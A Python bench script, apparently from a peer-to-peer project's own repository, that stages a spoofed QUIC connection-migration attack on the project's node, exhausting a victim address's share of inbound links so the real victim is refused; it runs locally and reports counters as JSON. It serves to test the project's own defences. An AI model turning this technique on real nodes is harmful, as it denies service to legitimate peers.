"""Attack: spoofed connection migration against the per-address cap on inbound links
(docs/oftp.md §2.2, §14.4, §15.4). A node takes at most a quarter of its inbound slots
from one address. QUIC lets a client move its connection to another address; aioquic
promotes the new path on the first non-probing packet from it, *before* the path is
validated (PATH_CHALLENGE/RESPONSE), and the node counted the link at the new address
then. An attacker that can forge its source address (no ingress filtering) needs no
second address of its own: it dials from its own address, then sends each link's packets
with the victim's address as source. The links count against the victim's share, and the
victim, dialling afterwards, is refused "too many links from this address".

Spoofing is mounted on this machine without raw sockets: the attacker's forged packets
leave from a UDP socket bound to the victim's address (``--victim``, a local
non-loopback address: loopback is exempt from the cap) and whatever arrives there is
discarded, as a spoofer never sees the answers. The attacker dials from ``--first``
(default 127.0.0.1: exempt, so it may hold many links itself). All traffic stays on the
machine.

Prints JSON: the links the target counts at the victim's address, whether the victim
(a real node bound to ``--victim``) could link and join, and the target's counters.

PYTHONPATH=. python bench/atk5_spoof_migrate.py [--quic aioquic|qh3] [--keys 8]
    [--first 127.0.0.1] [--victim 192.0.2.2]
"""
from __future__ import annotations

import argparse
import asyncio
import json
import time
from collections import Counter
from typing import Any

from oasis.core import peer as pp
from oasis.core import swarm as sw
from oasis.core import wire
from oasis.core.identity import Identity
from oasis.core.stream import StreamId
from oasis.node.node import Node
from oasis.tools.hostile import Victim, dial, hang_up, ping, spoof


async def wait_for(pred: Any, timeout: float) -> bool:
    """Poll ``pred`` every 20 ms, at most ``timeout`` s (a bench script, not a test)."""
    t = time.monotonic() + timeout
    while not pred():
        if time.monotonic() > t:
            return False
        await asyncio.sleep(0.02)
    return True


def held(b: Node, keys: set[bytes]) -> Counter[str]:
    return Counter(pp.ip_key(p.addr[0]) or "loopback" for k, p in b.policy.peers.items()
                   if k in keys and not p.closing and p.addr is not None)


async def attack(b: Node, sid: StreamId, first: str, victim_host: str, keys: int) -> dict[str, Any]:
    target = Victim(first, b.port, b.identity.public)
    conns: list[Any] = []
    olds: list[Any] = []  # the attacker's own sockets (closed at the end)
    mine: set[bytes] = set()
    cap = b.policy.config.max_inbound_per_ip or max(4, b.policy.config.max_neighbours // 4)
    empty = wire.Status(stream=sid.key, latest=0, have=0, keyframe=0, slots=0, paths=[], lags=[])

    async def keepalive() -> None:
        # every 0.25 s a forged PING on every link (a non-probing packet: the target's
        # QUIC promotes the forged path again after it gave up validating it), and a
        # STATUS every 2 s (the target closes a peer silent for 30 s)
        n = 0
        while True:
            await asyncio.sleep(0.25)
            n += 1
            for c in conns:
                if not c.terminated.is_set():
                    if n % 8 == 0:
                        c.send_msg(empty)
                    ping(c)
    pinger = asyncio.ensure_future(keepalive())
    refused = not_joined = 0
    t0 = time.monotonic()
    for _ in range(keys):
        c = await dial(target, auth=True, identity=Identity.generate())
        if not c.authed.is_set() or c.terminated.is_set():
            refused += 1
            await hang_up(c)
            continue
        c.send_msg(wire.Join(stream=str(sid)))
        # the spoofer never hears the target again: keep its own QUIC from giving up
        c._quic._configuration.idle_timeout, c._quic._remote_max_idle_timeout = 300.0, None
        key = c.identity.public
        if not await wait_for(lambda k=key: sid.key in b.joined.get(k, set()), 5.0):
            not_joined += 1
            await hang_up(c)
            continue
        mine.add(key)
        conns.append(c)
        olds.append(await spoof(c, victim_host, (victim_host, b.port)))  # from now on: forged source
    # what the target counts at the victim's address, once the forged packets landed
    await wait_for(lambda: held(b, mine).get(pp.ip_key(victim_host) or "", 0) >= cap, 5.0)
    at_victim_before_dial = held(b, mine).get(pp.ip_key(victim_host) or "", 0)
    # the victim, a real node on the victim address, dials the target and joins
    honest = Node(Identity.generate(), sw.SwarmConfig(), host=victim_host, target_neighbours=0,
                  quic=b.endpoint.stack.name)
    await honest.start()
    try:
        honest.add_stream(sid, is_source=False)
        linked = await honest.connect(b.peer_id, victim_host, b.port)
        honest_ok = linked and await wait_for(
            lambda: sid.key in b.joined.get(honest.identity.public, set()), 5.0)
    finally:
        await honest.close()
    pinger.cancel()
    by_addr = held(b, mine)
    alive = sum(1 for c in conns if not c.terminated.is_set())
    for c in conns:
        await hang_up(c)
    for old in olds:
        old.close()
    c_ = b.policy.counters
    return {"quic": b.endpoint.stack.name, "keys": keys, "share_per_address": cap,
            "attacker_links_joined": len(conns), "attacker_links_alive": alive,
            "dials_refused": refused, "not_joined": not_joined,
            "attacker_links_at_victim_address": at_victim_before_dial,
            "attacker_links_by_address_at_end": dict(by_addr),
            "victim_linked_and_joined": bool(honest_ok),
            "links_refused_per_ip": c_.links_refused_per_ip,
            "links_closed_per_ip_migrated": c_.links_closed_per_ip_migrated,
            "link_migrations": b.counters["link_migrations"],
            "link_paths_unvalidated": b.counters.get("link_paths_unvalidated"),
            "seconds": round(time.monotonic() - t0, 1)}


async def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--keys", type=int, default=8)
    ap.add_argument("--quic", default="aioquic", choices=("aioquic", "qh3"))
    ap.add_argument("--first", default="127.0.0.1", help="the attacker's own address")
    ap.add_argument("--victim", default="192.0.2.2",
                    help="the victim's address: a local address, not loopback")
    a = ap.parse_args()
    b = Node(Identity.generate(), sw.SwarmConfig(), host="0.0.0.0", target_neighbours=0, quic=a.quic)
    await b.start()
    try:
        sid = StreamId(b.identity.public, "live")
        b.add_stream(sid, is_source=True)
        out = await attack(b, sid, a.first, a.victim, a.keys)
    finally:
        await b.close()
    out["loadavg"] = open("/proc/loadavg").read().split()[:3]
    print(json.dumps(out, sort_keys=True))


if __name__ == "__main__":
    asyncio.run(main())
